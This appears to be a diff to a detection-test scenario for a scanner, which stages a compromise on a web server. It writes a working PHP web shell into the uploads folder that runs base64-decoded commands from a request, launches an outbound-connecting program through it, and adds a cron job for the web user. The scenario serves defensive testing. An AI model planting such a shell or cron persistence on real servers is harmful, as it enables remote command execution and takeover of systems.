@@ -1,7 +1,7 @@
 # id: C01
 # mode: scan
 # level: suspicious
-# due: later (incidents)
+# due: now
 # root: service
 # network: world
 # title: a web shell, a hidden program in memory-backed space with a connection, and the cron of the web user
@@ -14,7 +14,7 @@ dialler "$place/$name" 443
 printf '<?php if (isset($_REQUEST["c"])) { system(base64_decode($_REQUEST["c"])); }\n' >"/var/www/html/uploads/$shell.php"
 chown www-data "/var/www/html/uploads/$shell.php"
 web_service
-ask "/uploads/$shell.php?c=$(echo -n "python3 $place/$name" | base64 -w0)" 8080
+ask "/uploads/$shell.php?c=$(echo -n "python3 $place/$name" | base64 -w0)" 8081
 dialled "$name"
 crontab_of www-data "*/5 * * * * $place/$name >/dev/null 2>&1"
 said path "/var/www/html/uploads/$shell.php"
